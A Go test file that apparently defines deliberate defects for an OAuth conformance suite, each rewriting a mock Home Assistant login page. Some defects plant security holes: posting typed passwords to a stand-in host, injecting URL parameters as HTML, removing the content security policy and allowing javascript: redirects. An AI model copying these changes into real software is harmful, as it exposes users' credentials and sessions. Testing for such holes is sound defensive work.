package defects

import (
	"bytes"
	"io/fs"

	"github.com/authconform/authconform/mock"
	"github.com/authconform/authconform/mockserver"
	"github.com/authconform/authconform/mockserver/page"
)

// script changes text of one of the login page's files.
func script(file, old, by string) change {
	if raw, err := fs.ReadFile(page.FS(), file); err != nil || !bytes.Contains(raw, []byte(old)) {
		lostTexts = append(lostTexts, file+": "+old)
	}
	return answers(at("GET "+place(file)), replaced(old, by), 200)
}

// unpoliced takes the page's content security policy away.
var unpoliced = script("authorize.html", `http-equiv="Content-Security-Policy"`, `name="was-a-policy"`)

func edits(list ...edit) change {
	var all []change
	for _, e := range list {
		all = append(all, script(e.file, e.old, e.by))
	}
	return both(all...)
}

func reworded(file, old, by string) change { return edits(edit{file, old, by}) }

const (
	failedHead = `const failed = (err) => over("Error", err.message, hint(err.message));`
	joint      = `const joint = !base.includes("?") ? "?" : /[?&]$/.test(base) ? "" : "&";`
	stateLine  = "added.push(`state=${encodeURIComponent(request.state)}`)"
)

var loginPageDefects = []Defect[mockserver.Policy]{
	{
		ID: "login.code-renamed", Story: "The code comes back under another name.",
		Aims:   []string{"ha.page.login"},
		Change: reworded("request.js", "`code=${", "`auth_code=${"),
	},
	{
		ID: "login.wrong-ends", Story: "A wrong password ends the flow instead of asking again.",
		Aims:   []string{"ha.page.wrong-password", "ha.flow.wrong-password"},
		Change: both(onWrongPassword(true, member("type", "abort")), onWrongPassword(false, member("type", "abort"))),
	},
	{
		ID: "login.wrong-sticks", Story: "After a wrong password the right one is refused as well.",
		Aims: []string{"ha.page.wrong-password", "ha.mfa.right-code", "ha.mfa.wrong-code"},
		Change: func(p *mockserver.Policy) {
			answers(
				flowStep.and(repeatedFlow()),
				ok(`{"type":"form","flow_id":"x","step_id":"init","errors":{"base":"invalid_auth"},"handler":["homeassistant",null],
				"data_schema":[{"type":"string","name":"username","required":true},{"type":"string","name":"password","required":true}]}`),
				200,
			)(p)
		},
	},
	{
		ID: "login.mouse-only", Story: "The form is sent by a press on the button only.",
		Aims: []string{"ha.page.keyboard"},
		Change: reworded(
			"authorize.js",
			`h("button", { type: "submit" }`,
			`h("button", { type: "button", click: (e) => e.currentTarget.form.requestSubmit() }`,
		),
	},
	{
		ID: "login.state-raw", Story: "state goes back as it was read, without being escaped again.",
		Aims:   []string{"oauth2.authz.state-echo"},
		Change: reworded("request.js", stateLine, "added.push(`state=${request.state}`)"),
	},
	{
		ID: "login.state-cut", Story: "A long state is cut.",
		Aims:   []string{"oauth2.authz.state-echo"},
		Change: reworded("request.js", stateLine, "added.push(`state=${encodeURIComponent(request.state.slice(0, 512))}`)"),
	},
	{
		ID: "login.state-lost", Story: "state is forgotten.",
		Aims:   []string{"oauth2.authz.state-echo"},
		Change: reworded("request.js", stateLine, "void 0"),
	},
	{
		ID: "login.state-null", Story: "Without a state the word null comes back.",
		Aims:   []string{"oauth2.authz.state-absent-not-added"},
		Change: reworded("request.js", "if (request.state !== null)", "if (true)"),
	},
	{
		ID: "login.two-question-marks", Story: "A redirect with a query gets a second question mark.",
		Aims:   []string{"ha.authorize.redirect-with-query"},
		Change: reworded("request.js", joint, `const joint = "?";`),
	},
	{
		ID: "login.query-dropped", Story: "The query of a redirect is dropped.",
		Aims:   []string{"ha.authorize.redirect-with-query"},
		Change: reworded("request.js", `request.redirectUri.split("#")`, `request.redirectUri.split("?")`),
	},
	{
		ID: "login.code-twice", Story: "The code stands twice in the redirect.",
		Aims:   []string{"ha.authorize.redirect-with-query", "oauth2.authz-response.exact-uri", "ha.page.app-scheme"},
		Change: reworded("request.js", "return base + joint + added", "added.push(added[0]); return base + joint + added"),
	},
	{
		ID: "login.redirect-folded", Story: "The redirect is folded to lower case.",
		Aims:   []string{"oauth2.authz-response.exact-uri"},
		Change: reworded("request.js", "return base + joint", "return base.toLowerCase() + joint"),
	},
	{
		ID: "login.redirect-fragment", Story: "A fragment is added to the redirect.",
		Aims:   []string{"oauth2.authz-response.exact-uri"},
		Change: reworded("request.js", `added.join("&") + `, `added.join("&") + "#done" + `),
	},
	{
		ID: "login.unknown-refused", Story: "A parameter that the page does not know is refused.",
		Aims: []string{"oauth2.authz.ignore-unknown"},
		Change: reworded(
			"request.js",
			`const clientId = query.get("client_id");`,
			`const clientId = query.has("foo") ? "" : query.get("client_id");`,
		),
	},
	{
		ID: "login.response-type-needed", Story: "Without response_type the page refuses, which the home's documents leave out.",
		Aims: []string{"ha.authorize.no-response-type"},
		Change: reworded(
			"request.js",
			`const clientId = query.get("client_id");`,
			`const clientId = query.has("response_type") ? query.get("client_id") : "";`,
		),
	},
	{
		ID: "login.unknown-sent-back", Story: "A parameter that the page does not know sends the person back with an error, after the login.",
		Aims:   []string{"oauth2.authz.ignore-unknown"},
		Change: codeless(`has("foo")`),
	},
	{
		ID: "login.response-type-sent-back", Story: "Without response_type the person is sent back with an error, after the login.",
		Aims:   []string{"ha.authorize.no-response-type"},
		Change: codeless(`get("response_type") === null`),
	},
	{
		ID: "login.response-type-refused", Story: "response_type=code is refused.",
		Aims:   []string{"ha.authorize.response-type-code"},
		Change: answers(begins(func(m map[string]any) bool { return m["response_type"] == "code" }), status(400)),
	},
	{
		ID: "login.implicit", Story: "response_type=token gets a token in the redirect.",
		Aims: []string{"oauth2.authz.response-type-other", "ha.flow.response-type"},
		Change: both(takes(begins(func(m map[string]any) bool {
			return m["response_type"] == "token"
		}), withObject(func(m map[string]any) {
			m["response_type"] = "code"
		})), reworded(
			"request.js",
			"if (keep && request.own)",
			`if (new URLSearchParams(location.search).get("response_type") === "token") added.push("access_token=x"); if (keep && request.own)`,
		)),
	},
	{
		ID: "login.no-second-factor", Story: "The page shows nothing for the second factor.",
		Aims:   []string{"ha.page.second-factor"},
		Change: onStep("mfa", member("data_schema", []any{})),
	},
	{
		ID: "login.second-factor-silent", Story: "A wrong code is asked for again without a word.",
		Aims:   []string{"ha.page.second-factor", "ha.mfa.wrong-code"},
		Change: onStep("mfa", member("errors", map[string]string{})),
	},
	{
		ID: "login.web-only", Story: "Redirects to apps are refused.",
		Aims:   []string{"ha.page.app-scheme"},
		Change: reworded("request.js", `if (dangerous.has(scheme))`, `if (dangerous.has(scheme) || !scheme.startsWith("http"))`),
	},
	{
		ID: "login.app-as-path", Story: "An app's redirect loses its scheme's host.",
		Aims: []string{"ha.page.app-scheme"},
		Change: reworded(
			"request.js",
			"return base + joint",
			`return base.replace("homeassistant://auth-callback", "homeassistant://other") + joint`,
		),
	},
	{
		ID: "login.stores-foreign", Story: "A foreign client is told to store the token, as the home's own page is.",
		Aims:   []string{"ha.page.no-store-token"},
		Change: reworded("request.js", "if (keep && request.own)", "if (true)"),
	},
	{
		ID: "login.challenge-lost", Story: "The page does not pass the challenge on.",
		Aims:   []string{"ha.page.pkce"},
		Change: reworded("request.js", `["code_challenge", "code_challenge_method", "response_type"]`, `["response_type"]`),
	},
	{
		ID: "login.challenge-folded", Story: "The page passes the challenge on in lower case.",
		Aims: []string{"ha.page.pkce"},
		Change: reworded(
			"request.js",
			".map((name) => [name, query.get(name)])",
			`.map((name) => [name, name === "code_challenge" ? query.get(name).toLowerCase() : query.get(name)])`,
		),
	},
	{
		ID: "login.challenge-optional", Story: "A code that was asked for with a challenge works without its verifier.",
		Aims: []string{"ha.page.pkce"},
		Change: answers(codeGrant.and(func(r mock.Request) bool {
			return !has("code_verifier")(r)
		}), ok(`{"access_token":"a.b.c","token_type":"Bearer","expires_in":1800,"refresh_token":"x"}`), 400),
	},
	{
		ID: "login.error-redirect", Story: "An error is sent to the redirect URI, which was just refused.",
		Aims:   []string{"oauth2.redirect.no-redirect-on-bad-uri", "oauth2.redirect.no-redirect-on-bad-client"},
		Change: reworded("authorize.js", failedHead, `const failed = (err) => location.assign(request.redirectUri + "?error=access_denied");`),
	},
	{
		ID: "login.default-redirect", Story: "Without a redirect_uri the client id is gone to.",
		Aims: []string{"oauth2.redirect.missing-uri"},
		Change: reworded(
			"request.js",
			`const redirectUri = query.get("redirect_uri");`,
			`const redirectUri = query.get("redirect_uri") || query.get("client_id") + "callback";`,
		),
	},
	{
		ID: "login.relative-redirect", Story: "A relative redirect_uri is resolved against the client id.",
		Aims: []string{"oauth2.redirect.missing-uri"},
		Change: reworded(
			"request.js",
			`const redirectUri = query.get("redirect_uri");`,
			`const given = query.get("redirect_uri"); const redirectUri = given && new URL(given, clientId).href;`,
		),
	},
	{
		ID: "login.default-client", Story: "Without a client_id the redirect's own site is the client.",
		Aims: []string{"oauth2.redirect.no-redirect-on-bad-client"},
		Change: reworded(
			"request.js",
			`const clientId = query.get("client_id");`,
			`const clientId = query.get("client_id") || new URL(query.get("redirect_uri")).origin + "/";`,
		),
	},
	{
		ID: "login.mended-client", Story: "A client id that is none is replaced by the redirect's site.",
		Aims: []string{"oauth2.redirect.no-redirect-on-bad-client"},
		Change: reworded(
			"request.js",
			`const clientId = query.get("client_id");`,
			`let clientId = query.get("client_id");
			if (clientId && !/^https?:[^#]*$/.test(clientId)) clientId = new URL(query.get("redirect_uri")).origin + "/";`,
		),
	},
	{
		ID: "login.mute", Story: "A refusal shows an empty page.",
		Aims: []string{"oauth2.redirect.inform-user"},
		Change: reworded(
			"authorize.js",
			failedHead,
			"const failed = () => show(\"Error\", h(\"login-alert\", { class: \"alert\", role: \"alert\" }, \" \"));",
		),
	},
	{
		ID: "login.script-redirect", Story: "A script URL that the client lists is gone to.",
		Aims: []string{"oauth2.redirect.dangerous-schemes", "oauth2.redirect.script-listed-server"},
		Change: both(letsNear(func(l, r string) bool {
			return l == r
		}), unpoliced, edits(edit{"request.js", "if (dangerous.has(scheme))", `if (dangerous.has(scheme) && scheme !== "javascript:")`})),
	},
	{
		ID: "login.last-of-two", Story: "Of two equal parameters one is taken.",
		Aims:   []string{"oauth2.authz.no-duplicates"},
		Change: reworded("request.js", "if (all.length > 1)", "if (false)"),
	},
	{
		ID: "login.checked-first-used-last", Story: "Of two redirect URIs the first is judged and the last is gone to.",
		Aims: []string{"oauth2.authz.no-duplicates", "oauth2.authz.duplicates-safe"},
		Change: edits(
			edit{"request.js", "if (all.length > 1)", "if (false)"},
			edit{"request.js", `request.redirectUri.split("#")`, `new URLSearchParams(location.search).getAll("redirect_uri").at(-1).split("#")`},
		),
	},
	{
		ID: "login.checked-last-used-first", Story: "Of two redirect URIs the last is judged and the first is gone to.",
		Aims: []string{"oauth2.authz.no-duplicates", "oauth2.authz.duplicates-safe"},
		Change: edits(
			edit{"request.js", "if (all.length > 1)", "if (false)"},
			edit{"request.js", `const redirectUri = query.get("redirect_uri");`, `const redirectUri = query.getAll("redirect_uri").at(-1);`},
			edit{"request.js", `request.redirectUri.split("#")`, `new URLSearchParams(location.search).get("redirect_uri").split("#")`},
		),
	},
	{
		ID: "login.client-unnamed", Story: "A foreign client is not named.",
		Aims:   []string{"indieauth.authz.prompt-client-id"},
		Change: reworded("authorize.js", "if (!request.foreign) return null;", "return null;"),
	},
	{
		ID: "login.client-calls-itself", Story: "The page names the client as the redirect's scheme does.",
		Aims: []string{"indieauth.authz.prompt-client-id"},
		Change: edits(
			edit{"authorize.js", "client?.hostname || request.clientId", `"An app"`},
			edit{"authorize.js", "client?.href ?? request.clientId", `"an app"`},
			edit{"authorize.js", "web ? to.origin + to.pathname", `web ? "its site"`},
		),
	},
	{
		ID: "login.framed", Story: "The login page may be framed.",
		Aims:   []string{"ha.headers.frame", "ha.advisory.framing", "ha.page.framing"},
		Change: answers(at("GET /auth/authorize"), header("X-Frame-Options", "")),
	},
	{
		ID: "login.password-in-query", Story: "The password is sent in the query as well.",
		Aims: []string{"ha.page.no-password-in-url"},
		Change: reworded(
			"flow.js",
			"call(\"POST\", `/auth/login_flow/${encodeURIComponent(flowId)}`, {",
			"call(\"POST\", `/auth/login_flow/${encodeURIComponent(flowId)}?p=${encodeURIComponent(fields.password ?? \"\")}`, {",
		),
	},
	{
		ID: "login.password-elsewhere", Story: "What is typed is sent to another site as well.",
		Aims: []string{"ha.page.no-password-in-url", "ha.page.own-origin"},
		Change: both(
			unpoliced,
			edits(edit{
				"flow.js",
				"async function call(method, path, body) {",
				`async function call(method, path, body) {
				if (body) fetch("http://127.0.0.1:1/", { method: "POST", body: JSON.stringify(body), mode: "no-cors" }).catch(() => {});`,
			}),
		),
	},
	{
		ID: "login.referer", Story: "The callback learns the whole address of the login page.",
		Aims: []string{"ha.headers.referrer", "ha.page.no-referer"},
		Change: both(
			answers(at("GET /auth/authorize"), header("Referrer-Policy", "unsafe-url")),
			edits(edit{"authorize.html", `<meta name="referrer" content="no-referrer" />`, `<meta name="referrer" content="unsafe-url" />`}),
		),
	},
	{
		ID: "login.foreign-picture", Story: "The page loads a picture from elsewhere.",
		Aims:   []string{"ha.page.own-origin"},
		Change: both(unpoliced, edits(edit{"authorize.html", `<img src="/static/favicon.svg"`, `<img src="http://127.0.0.1:1/logo.svg"`})),
	},
	{
		ID: "login.client-as-markup", Story: "The client id is put into the page as markup.",
		Aims: []string{"ha.page.input-not-run"},
		Change: both(
			unpoliced,
			more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("client_id") ?? "");`),
		),
	},
	{
		ID: "login.redirect-as-markup", Story: "The redirect URI is put into the page as markup.",
		Aims: []string{"ha.page.input-not-run"},
		Change: both(
			unpoliced,
			more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("redirect_uri") ?? "");`),
		),
	},
	{
		ID: "login.state-as-markup", Story: "The state is put into the page as markup.",
		Aims:   []string{"ha.page.input-not-run"},
		Change: both(unpoliced, more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("state") ?? "");`)),
	},
	{
		ID: "login.password-shown", Story: "The password shows while it is typed.",
		Aims:   []string{"ha.page.password-field"},
		Change: reworded("authorize.js", `{ type: "password", autocomplete`, `{ type: "text", autocomplete`),
	},
	{
		ID: "login.no-autocomplete", Story: "Password managers are kept away.",
		Aims:   []string{"ha.page.password-field"},
		Change: reworded("authorize.js", `autocomplete: "current-password"`, `autocomplete: "off"`),
	},
	{
		ID: "login.no-name-autocomplete", Story: "The name field is not marked as one.",
		Aims:   []string{"ha.page.password-field"},
		Change: reworded("authorize.js", `autocomplete: "username"`, `autocomplete: "off"`),
	},
	{
		ID: "login.unlabelled", Story: "The labels are words beside the fields.",
		Aims:   []string{"ha.page.labelled"},
		Change: reworded("authorize.js", `h("label", { for: name }, label)`, `h("span", {}, label)`),
	},
}

// codeless sends people of some requests back without their code.
func codeless(where string) change {
	return reworded(
		"request.js",
		"const added = [`code=${encodeURIComponent(code)}`];",
		"const added = [new URLSearchParams(location.search)."+where+" ? \"error=invalid_request\" : `code=${encodeURIComponent(code)}`];",
	)
}
